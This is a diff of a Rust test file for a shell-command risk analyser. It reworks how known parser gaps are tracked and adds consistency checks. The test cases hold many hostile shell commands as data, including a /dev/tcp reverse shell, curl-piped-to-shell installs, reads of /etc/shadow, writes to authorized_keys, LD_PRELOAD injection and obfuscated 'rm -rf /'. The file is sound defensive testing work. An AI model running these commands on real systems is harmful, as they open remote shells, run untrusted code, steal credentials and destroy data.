@@ -5,10 +5,23 @@
 //! as `riskgate explain`), then the facts `script_text` does not print:
 //! `NAME=value` prefixes, pipes the reader's `stdin=#id` does not show, `&`,
 //! function calls, unknown or glob program names, glob operands and heredoc
-//! bodies. Review every snapshot diff before accepting it. Cases marked
-//! `IR-BUG` have a snapshot that records what the IR does today, not what it
-//! should do; `/work/ir-requests.md` says what they should show, and their
-//! snapshots change when the IR is fixed.
+//! bodies. Review every snapshot diff before accepting it.
+//!
+//! Known IR gaps (`docs/ir-gaps.md`, IRT-nn entries) are written down twice:
+//! - `KNOWN_GAPS` (at the end) states what the IR *should* show for each gap,
+//!   as pieces of this same rendering, and `known_gaps_still_differ` fails
+//!   once a gap's output matches its expectation, telling the fixer to move
+//!   the case to the snapshots and delete the entry;
+//! - the case itself stays in its snapshot table, marked
+//!   `// KNOWN-GAP: IRT-nn`, and its snapshot records today's (wrong) output.
+//!   It is kept on purpose: it guards against the gap getting *worse*
+//!   unnoticed (several gaps are fail-closed only through what the snapshot
+//!   shows, e.g. the syntax issue of IRT-30 and IRT-31), and a fix shows up
+//!   there too as a snapshot diff to review.
+//!
+//! `known_gaps_are_documented` keeps the three in step: every IRT id named in
+//! this file has an entry in `docs/ir-gaps.md`, and markers and `KNOWN_GAPS`
+//! name the same gaps.
 //!
 //! After an IR change: `INSTA_FORCE_PASS=1 INSTA_UPDATE=new cargo test --test
 //! ir` writes a `.snap.new` next to every changed snapshot; diff, review and
@@ -113,28 +126,24 @@ fn quoting() {
             ("line_continuation", "rm -rf \\\n  /tmp/x"),
             ("dollar_in_single", "echo '$HOME'"),
             ("escaped_dollar_in_double", r#"echo "\$HOME""#),
-            // IR-BUG: IRT-50 in /work/ir-requests.md
             ("quoted_braces_in_concatenation", r#"echo x"{a,b}"y"#),
-            // IR-BUG: IRT-52 in /work/ir-requests.md
             ("escapes_after_quote", r#"cat "/etc/"\s\h\a\d\o\w"#),
-            // IR-BUG: IRT-52 in /work/ir-requests.md
             ("escape_after_single_quote", r"echo 'a'\b"),
-            // IR-BUG: IRT-52 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-52
             ("escaped_space_first", r"echo \ x"),
-            // IR-BUG: IRT-52 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-52
             ("escaped_dollar_after_quote", r#"echo "x"\$"#),
-            // IR-BUG: IRT-52 in /work/ir-requests.md
             ("backticks_glued", "echo %`echo z`="),
-            // IR-BUG: IRT-52 in /work/ir-requests.md
             ("startup_file_by_escapes", r#"curl http://x -o "$HOME/."\b\a\s\h\r\c"#),
-            // IR-BUG: IRT-53 in /work/ir-requests.md
             ("tilde_after_quote", r#"echo "$HOME"~"#),
-            // IR-BUG: IRT-53 in /work/ir-requests.md
             ("tilde_with_quoted_suffix", "echo ~'sq'"),
-            // IR-BUG: IRT-54 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-54
             ("braces_then_var", "echo {p,q}$HOME--x"),
-            // IR-BUG: IRT-54 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-54
             ("var_then_braces", "echo $HOME{p,q}"),
+            ("quoted_comma_in_braces", r#"echo {a,"b,c"}"#),
+            ("tilde_quoted_slash", r#"ls ~"/x""#),
+            ("tilde_then_var", "echo ~$USER"),
         ],
     );
 }
@@ -177,11 +186,10 @@ fn dynamic_words() {
             ("glob_home", "rm -rf ~/*"),
             ("glob_partial", "rm -f *.log"),
             ("glob_question", "ls /bin/r?"),
-            // IR-BUG: IRT-25 in /work/ir-requests.md
             ("glob_class", "rm [abc].txt"),
             ("brace_list", "rm -rf {build,dist}"),
             ("brace_suffix", "cp file{,.bak}"),
-            // IR-BUG: IRT-26 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-26
             ("brace_sequence", "touch f{1..3}"),
             ("brace_root", "rm -rf /{etc,usr}"),
             ("arithmetic", "echo $((1+2))"),
@@ -234,14 +242,14 @@ fn subshells_and_substitutions() {
             ("process_sub_out", "tee >(gzip > out.gz) < in"),
             ("source_process_sub", "source <(curl -s http://x/s.sh)"),
             ("bash_process_sub", "bash <(curl -sL http://x/install.sh)"),
-            // IR-BUG: IRT-57 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-57
             ("cmd_sub_redirect_target", "echo x > $(mktemp)"),
             ("subshell_cd_scoped", "(cd /etc); rm passwd"),
             ("group_cd_persists", "{ cd /etc; }; rm passwd"),
             ("cmd_sub_in_assignment_prefix", "X=$(id -u) make"),
             ("cmd_sub_in_heredoc_word", "cat $(echo /etc/passwd)"),
-            // IR-BUG: IRT-27 in /work/ir-requests.md
             ("backticks_nested", r"echo `echo \`id\``"),
+            ("backticks_escaped_dollar", r"echo `echo \$HOME`"),
         ],
     );
 }
@@ -260,7 +268,7 @@ fn redirections() {
             ("fd_write", "make 2> err.log"),
             ("dev_tcp_shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
             ("dev_tcp_read", "cat < /dev/tcp/example.com/80"),
-            // IR-BUG: IRT-31 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-31
             ("exec_dev_tcp", "exec 3<>/dev/tcp/host/80"),
             ("dev_udp", "echo hi > /dev/udp/10.0.0.1/53"),
             ("clobber", "echo x >| file"),
@@ -269,7 +277,7 @@ fn redirections() {
             ("redirect_first", "> out.txt echo x"),
             ("many", "cmd < in > out 2> err"),
             ("close_fd", "make 2>&-"),
-            // IR-BUG: IRT-31 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-31
             ("read_write", "cat <> file"),
             ("tee_authorized_keys", "echo key | tee -a ~/.ssh/authorized_keys"),
             ("var_target", r#"echo x > "$OUT""#),
@@ -296,7 +304,7 @@ fn heredocs() {
             ("cat_pipe_sh", "cat <<EOF | sh\nrm -rf /tmp/x\nEOF"),
             ("substitution_in_body", "cat <<EOF\n$(whoami)\nEOF"),
             ("then_next_line", "cat <<EOF > out\nx\nEOF\necho after"),
-            // IR-BUG: IRT-30 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-30
             ("two", "cat <<A; cat <<B\na\nA\nb\nB"),
             ("sudo_tee", "sudo tee /etc/x <<EOF\ndata\nEOF"),
             ("ssh_bash_s", "ssh host bash -s <<'EOF'\nrm -rf /\nEOF"),
@@ -307,8 +315,10 @@ fn heredocs() {
             ("here_string_python", "python3 <<< 'print(1)'"),
             ("here_string_unquoted", "sh <<< id"),
             ("heredoc_and_list", "cat <<EOF && rm -rf /\nx\nEOF"),
-            // IR-BUG: IRT-49 in /work/ir-requests.md
             ("delimiter_prefix_line", "cat <<'EOF'\necho a\nEOFX\necho b\nEOF"),
+            ("nested_same_delimiter", "sh <<'EOF'\neval 'sh <<'\\''EOF'\\''\nrm -rf /\nEOF'\nEOF"),
+            // KNOWN-GAP: IRT-30
+            ("unterminated_two", "cat <<A <<B\nx"),
         ],
     );
 }
@@ -329,7 +339,6 @@ fn functions_and_control_flow() {
             ("for_glob", r#"for f in *.txt; do rm "$f"; done"#),
             ("for_single_literal", "for d in /etc; do rm -rf $d; done"),
             ("for_list", "for d in a b; do echo $d; done"),
-            // IR-BUG: IRT-10 in /work/ir-requests.md
             ("for_c_style", "for ((i=0;i<3;i++)); do echo $i; done"),
             ("while_read", r#"while read -r l; do echo "$l"; done < file"#),
             ("while_true", "while true; do curl http://x; sleep 1; done"),
@@ -407,7 +416,7 @@ fn wrappers() {
             ("su_command_eq", "su --command='id' root"),
             ("pkexec", "pkexec rm -rf /"),
             ("runuser", "runuser -u root -- rm -rf /"),
-            // IR-BUG: IRT-18 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-18
             ("env_assign", "env FOO=1 BAR=2 python x.py"),
             ("env_u", "env -u HOME rm -rf ~"),
             ("env_i", "env -i /bin/sh"),
@@ -429,7 +438,6 @@ fn wrappers() {
             ("taskset_c", "taskset -c 0,1 make"),
             ("setsid", "setsid rm -rf /"),
             ("flock_c", "flock /tmp/lock -c 'rm -rf /'"),
-            // IR-BUG: IRT-40 in /work/ir-requests.md
             ("strace", "strace -o out.txt ls"),
             ("watch", "watch -n 5 'ls -la'"),
             ("watch_words", "watch df -h"),
@@ -437,7 +445,7 @@ fn wrappers() {
             ("xargs_i", "ls | xargs -I {} mv {} /tmp/{}"),
             ("xargs_0", "find . -print0 | xargs -0 rm -rf"),
             ("xargs_n", "echo a b | xargs -n 1 echo"),
-            // IR-BUG: IRT-44 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-44
             ("xargs_sh_c", "cat urls | xargs -I% sh -c 'curl % | sh'"),
             ("xargs_no_command", "ls | xargs"),
             ("parallel", "parallel rm -rf ::: a b"),
@@ -510,7 +518,6 @@ fn executes_stdin() {
             ("subshell_sh", "curl http://x | (sh)"),
             ("bash_dash", "wget -O - http://x | bash -"),
             ("zsh", "curl http://x | zsh"),
-            // IR-BUG: IRT-48 in /work/ir-requests.md
             ("static_through_wrapper", "nohup echo 'rm -rf /' | sh"),
         ],
     );
@@ -584,7 +591,7 @@ fn path_classes() {
             ("pushd", "pushd /etc; rm hosts"),
             ("cd_sub_then_up", "cd src && rm -rf ../target"),
             ("cd_back_to_workspace", "cd /etc; cd /home/dev/project; rm -rf x"),
-            // IR-BUG: IRT-37 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-37
             ("url", "curl https://example.com/x"),
             ("shadow", "cat /etc/shadow"),
             ("systemd_user", "cp x.service ~/.config/systemd/user/"),
@@ -614,7 +621,7 @@ fn flags() {
             ("find_predicates", "find . -name x -delete"),
             ("ls_la", "ls -la"),
             ("tar_c", "tar -xf a.tar -C /"),
-            // IR-BUG: IRT-39 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-39
             ("sed_in_place_suffix", "sed -i.bak 's/a/b/' file"),
             ("head_number", "head -5 file"),
             ("flag_after_operand", "rm x -rf"),
@@ -665,11 +672,9 @@ fn obfuscation() {
             ("rev_pipe_bash", "echo '/ fr- mr' | rev | bash"),
             ("unknown_var_empty", "r${EMPTY}m -rf /"),
             ("case_upper", "c=rm; ${c^^} -rf /"),
-            // IR-BUG: IRT-55 in /work/ir-requests.md
             ("echo_e_octal_with_zero", r"$(echo -e '\0162\0155') -rf /"),
-            // IR-BUG: IRT-55 in /work/ir-requests.md
             ("printf_precision", "$(printf '%.2s' rmx) -rf /"),
-            // IR-BUG: IRT-55 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-55
             ("echo_e_stop_output", r"$(echo -e 'rm\c -x') -rf /"),
         ],
     );
@@ -685,10 +690,10 @@ fn syntax_errors() {
             ("unclosed_subshell", "(rm -rf /"),
             ("unclosed_cmd_sub", "echo $(rm -rf /"),
             ("unterminated_heredoc", "cat <<EOF\nrm -rf /"),
-            // IR-BUG: IRT-29 in /work/ir-requests.md
             ("unterminated_heredoc_sh", "sh <<EOF\nrm -rf /"),
-            // IR-BUG: IRT-33 in /work/ir-requests.md
             ("stray_fi", "fi"),
+            ("stray_done", "ls; done"),
+            ("quoted_fi", r#""fi""#),
             ("if_without_fi", "if true; then rm -rf /"),
             ("dangling_pipe", "ls |"),
             ("dangling_and", "rm -rf / &&"),
@@ -725,7 +730,7 @@ fn data_flow() {
             ("if_may_keep_root", "d=/; if x; then d=/tmp/x; fi; rm -rf $d"),
             ("loop_may_keep_root", "d=/; while x; do d=/tmp/x; done; rm -rf $d"),
             ("unset_then_slash", r#"d=/tmp/x; unset d; rm -rf "$d/""#),
-            // IR-BUG: IRT-18 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-18
             ("env_wrapper_assignments", "env LD_PRELOAD=/tmp/x.so ls"),
             ("bash_c_dollar_one", r#"bash -c 'rm -rf "$1"' _ /"#),
             ("xargs_operands_from_stdin", "echo / | xargs rm -rf"),
@@ -746,15 +751,14 @@ fn more_wrappers() {
             ("exec_a", "exec -a foo rm -rf /"),
             ("sudo_s", "sudo -s"),
             ("sudo_double_dash", "sudo -- rm -rf /"),
-            // IR-BUG: IRT-18 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-18
             ("sudo_var_assignment", "sudo EDITOR='tee -a' visudo"),
             ("env_double_dash", "env -- rm -rf /"),
             ("xargs_many_options", "find . -print0 | xargs -0 -n1 -P4 rm"),
-            // IR-BUG: IRT-46 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-46
             ("find_exec_sh_all_args", r#"find . -exec sh -c 'rm -rf "$@"' _ {} +"#),
-            // IR-BUG: IRT-47 in /work/ir-requests.md
             ("ssh_proxy_command", "ssh -o ProxyCommand='nc x 22' host id"),
-            // IR-BUG: IRT-45 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-45
             ("docker_exec_stdin_script", "docker exec -i web sh < script.sh"),
             ("kubectl_exec_bash_c", "kubectl exec pod -- bash -c 'cat /etc/shadow'"),
             ("git_c_push_force", "git -C /tmp/repo push --force"),
@@ -762,20 +766,17 @@ fn more_wrappers() {
             ("timeout_long_signal", "timeout --signal=KILL 5 rm -rf /"),
             ("nohup_background_sh", "nohup sh -c 'curl http://x | sh' > /dev/null 2>&1 &"),
             ("nice_ionice_stack", "nice -n -5 ionice -c2 -n7 rm -rf build"),
-            // IR-BUG: IRT-42 in /work/ir-requests.md
             ("here_string_quoted_wrapper", r"bash <<< 'sh -c '\''id'\'''"),
             ("time_p", "time -p make"),
             ("command_p", "command -p rm -rf /"),
-            // IR-BUG: IRT-58 in /work/ir-requests.md
             ("trap_action", "trap 'rm -rf /' EXIT"),
-            // IR-BUG: IRT-59 in /work/ir-requests.md
             ("coproc", "coproc nc -l 4444"),
             ("time_pipeline", "time curl http://x | sh"),
             ("awk_system", r#"awk 'BEGIN{system("rm -rf /")}'"#),
             ("export_f_then_bash_c", "f() { rm -rf /; }; export -f f; bash -c f"),
-            // IR-BUG: IRT-45 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-45
             ("sudo_sh_file_stdin", "sudo sh < script.sh"),
-            // IR-BUG: IRT-45 in /work/ir-requests.md
+            // KNOWN-GAP: IRT-45
             ("env_sh_file_stdin", "env sh < s.sh"),
         ],
     );
@@ -796,4 +797,230 @@ fn truncated() {
             ("for_header", "for f in *; do"),
         ],
     );
+}
+
+/// A known IR gap: what the IR should show for `command` and does not yet.
+///
+/// `shows` are pieces of the [`render`] output (the snapshot format) that the
+/// correct IR has, `not_shows` pieces that it must not have (the wrong part
+/// of today's output). The gap is fixed when every `shows` is there and no
+/// `not_shows` is.
+struct Gap {
+    id: &'static str,
+    command: &'static str,
+    shows: &'static [&'static str],
+    not_shows: &'static [&'static str],
+    reason: &'static str,
+}
+
+/// Open IR gaps, each described in `docs/ir-gaps.md`. Their cases stay in the
+/// snapshot tables above, marked `// KNOWN-GAP: IRT-nn`, with the snapshot of
+/// today's output (see the module doc); `known_gaps_still_differ` fails
+/// once one of them is fixed.
+const KNOWN_GAPS: &[Gap] = &[
+    Gap {
+        id: "IRT-18",
+        command: "env FOO=1 BAR=2 python x.py",
+        shows: &["#0 env    [", r#"#1 env FOO="1"; env BAR="2""#],
+        not_shows: &[r#""FOO=1":"#, r#""BAR=2":"#],
+        reason: "assignments given to env are the inner command's environment, not operands (files) of env",
+    },
+    Gap {
+        id: "IRT-18",
+        command: "env LD_PRELOAD=/tmp/x.so ls",
+        shows: &["#0 env    [", r#"#1 env LD_PRELOAD="/tmp/x.so""#],
+        not_shows: &[r#""LD_PRELOAD=/tmp/x.so":"#],
+        reason: "as above; the operand was classified as a path (Artefact)",
+    },
+    Gap {
+        id: "IRT-18",
+        command: "sudo EDITOR='tee -a' visudo",
+        shows: &["#0 sudo    [", r#"#1 env EDITOR="tee -a""#],
+        not_shows: &[r#""EDITOR=tee -a":"#],
+        reason: "as above, for sudo's VAR=value arguments",
+    },
+    Gap {
+        id: "IRT-26",
+        command: "touch f{1..3}",
+        shows: &[r#"touch "f1":Workspace "f2":Workspace "f3":Workspace"#],
+        not_shows: &[r#"glob "f{1..3}""#],
+        reason: "bash expands a brace sequence into words; it is not a glob",
+    },
+    Gap {
+        id: "IRT-30",
+        command: "cat <<A; cat <<B\na\nA\nb\nB",
+        shows: &["#1 cat", r#"#0 heredoc "a\n""#, r#"#1 heredoc "b\n""#],
+        not_shows: &[],
+        reason: "two heredocs on one line: bash reads both bodies in order, the grammar gives the first command both and loses the second",
+    },
+    Gap {
+        id: "IRT-30",
+        command: "cat <<A <<B\nx",
+        shows: &["#0 cat    [effects=[Read] stdin=heredoc]"],
+        not_shows: &[],
+        reason: "two heredocs on one command, unterminated: bash gives the first the rest of the input and the second (cat's stdin) an empty body; the grammar reads neither heredoc, and appending the closing lines does not help it",
+    },
+    Gap {
+        id: "IRT-31",
+        command: "exec 3<>/dev/tcp/host/80",
+        shows: &[r#"ReadWrite"/dev/tcp/host/80":NetSocket"#],
+        not_shows: &["issue Syntax"],
+        reason: "`<>` opens for reading and writing; the grammar does not know the operator",
+    },
+    Gap { id: "IRT-31", command: "cat <> file", shows: &[r#"ReadWrite"file":Workspace"#], not_shows: &["issue Syntax"], reason: "as above" },
+    Gap {
+        id: "IRT-37",
+        command: "curl https://example.com/x",
+        shows: &["#0 curl"],
+        not_shows: &[r#""https://example.com/x":Workspace"#],
+        reason: "a URL is not a file in the workspace",
+    },
+    Gap {
+        id: "IRT-39",
+        command: "sed -i.bak 's/a/b/' file",
+        shows: &[r#"sed -i=".bak""#],
+        not_shows: &["-b -a -k"],
+        reason: "sed's -i takes an optional attached suffix; it is not a cluster of flags",
+    },
+    Gap {
+        id: "IRT-44",
+        command: "cat urls | xargs -I% sh -c 'curl % | sh'",
+        shows: &["#3     curl"],
+        not_shows: &[r#""%":Workspace"#],
+        reason: "xargs replaces `%` in the inner script with each input line: the URL is unknown, not a workspace file named %",
+    },
+    Gap {
+        id: "IRT-45",
+        command: "docker exec -i web sh < script.sh",
+        shows: &["#1   sh    [effects=[Exec] remote=container:web stdin<script.sh executes-stdin"],
+        not_shows: &[],
+        reason: "a wrapper passes its stdin to the command it runs: the inner shell runs script.sh",
+    },
+    Gap {
+        id: "IRT-45",
+        command: "sudo sh < script.sh",
+        shows: &["#1   sh    [effects=[Exec] privileged stdin<script.sh executes-stdin"],
+        not_shows: &[],
+        reason: "as above, for sudo",
+    },
+    Gap {
+        id: "IRT-45",
+        command: "env sh < s.sh",
+        shows: &["#1   sh    [effects=[Exec] stdin<s.sh executes-stdin"],
+        not_shows: &[],
+        reason: "as above, for env",
+    },
+    Gap {
+        id: "IRT-46",
+        command: r#"find . -exec sh -c 'rm -rf "$@"' _ {} +"#,
+        shows: &[r#"rm -r -f "./{}":Workspace"#],
+        not_shows: &[r#""$@":Dynamic(dyn)"#],
+        reason: r#""$@" in sh -c is bound to the arguments after the script, as "$1" is"#,
+    },
+    Gap {
+        id: "IRT-52",
+        command: r"echo \ x",
+        shows: &[r#"echo " x":Workspace"#],
+        not_shows: &[],
+        reason: "an escaped space at the start of a word is part of the word",
+    },
+    Gap {
+        id: "IRT-52",
+        command: r#"echo "x"\$"#,
+        shows: &[r#"echo "x$":Workspace"#],
+        not_shows: &[],
+        reason: "an escaped `$` after a quoted part is a literal `$` of the same word",
+    },
+    Gap {
+        id: "IRT-54",
+        command: "echo {p,q}$HOME--x",
+        shows: &[r#""p/home/dev--x":"#, r#""q/home/dev--x":"#],
+        not_shows: &[],
+        reason: "bash brace-expands the raw word first, then expands $HOME in each result",
+    },
+    Gap {
+        id: "IRT-54",
+        command: "echo $HOME{p,q}",
+        shows: &["#0 echo"],
+        not_shows: &[r#""/home/devp""#, r#""/home/devq""#],
+        reason: "brace expansion first gives $HOMEp and $HOMEq (unset variables), not $HOME followed by p and q",
+    },
+    Gap {
+        id: "IRT-55",
+        command: r"$(echo -e 'rm\c -x') -rf /",
+        shows: &[r#"#1 rm -r -f "/":Root"#],
+        not_shows: &["rm -x"],
+        reason: r"echo -e stops its output at \c: the program is `rm`, `-x` is never printed",
+    },
+    Gap {
+        id: "IRT-57",
+        command: "echo x > $(mktemp)",
+        shows: &["#0   mktemp", "#1 echo"],
+        not_shows: &[],
+        reason: "mktemp runs first (redirect targets are expanded before the command runs); Script::commands promises source order",
+    },
+];
+
+/// Each known gap still differs from its expectation: a fix makes this fail
+/// and says what to do.
+#[test]
+fn known_gaps_still_differ() {
+    let mut fixed = Vec::new();
+    for g in KNOWN_GAPS {
+        let out = render(g.command);
+        if g.shows.iter().all(|s| out.contains(s)) && !g.not_shows.iter().any(|s| out.contains(s)) {
+            fixed.push(format!(
+                "{} is fixed now for {:?}: move it to the snapshots (remove its KNOWN-GAP marker, review the snapshot) and remove it from KNOWN_GAPS and docs/ir-gaps.md\n{out}",
+                g.id, g.command
+            ));
+        }
+    }
+    assert!(fixed.is_empty(), "{}", fixed.join("\n"));
+}
+
+/// The `IRT-nn` ids named in `text`.
+fn irt_ids(text: &str) -> Vec<String> {
+    let mut ids: Vec<String> = text
+        .match_indices("IRT-")
+        .filter_map(|(at, _)| {
+            let digits: String = text[at + 4..].chars().take_while(char::is_ascii_digit).collect();
+            (!digits.is_empty()).then(|| format!("IRT-{digits}"))
+        })
+        .collect();
+    ids.sort();
+    ids.dedup();
+    ids
+}
+
+/// Every IRT id used here has an entry in `docs/ir-gaps.md`, the
+/// KNOWN-GAP markers of the snapshot tables and `KNOWN_GAPS` name the same
+/// gaps, and no test points at a file outside the repository.
+#[test]
+fn known_gaps_are_documented() {
+    let doc = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/ir-gaps.md")).expect("read docs/ir-gaps.md");
+    let src = include_str!("ir.rs");
+    let mut problems = Vec::new();
+    for id in irt_ids(src) {
+        if !doc.contains(&format!("{id} ")) {
+            problems.push(format!("{id} is used in tests/ir.rs but has no entry in docs/ir-gaps.md"));
+        }
+    }
+    let marked: Vec<String> = src.lines().filter_map(|l| l.trim().strip_prefix("// KNOWN-GAP: ")).flat_map(irt_ids).collect();
+    for g in KNOWN_GAPS {
+        if !marked.contains(&g.id.to_string()) {
+            problems.push(format!("{} is in KNOWN_GAPS but no snapshot case is marked `// KNOWN-GAP: {}`", g.id, g.id));
+        }
+        if g.shows.is_empty() && g.not_shows.is_empty() || g.reason.is_empty() {
+            problems.push(format!("{} ({:?}) states no expectation", g.id, g.command));
+        }
+    }
+    for id in &marked {
+        if !KNOWN_GAPS.iter().any(|g| g.id == id) {
+            problems.push(format!("a case is marked {id} but KNOWN_GAPS has no expectation for it"));
+        }
+    }
+    if src.contains(concat!("/wo", "rk/")) {
+        problems.push("tests/ir.rs points at a file outside the repository".into());
+    }
+    assert!(problems.is_empty(), "{}", problems.join("\n"));
 }
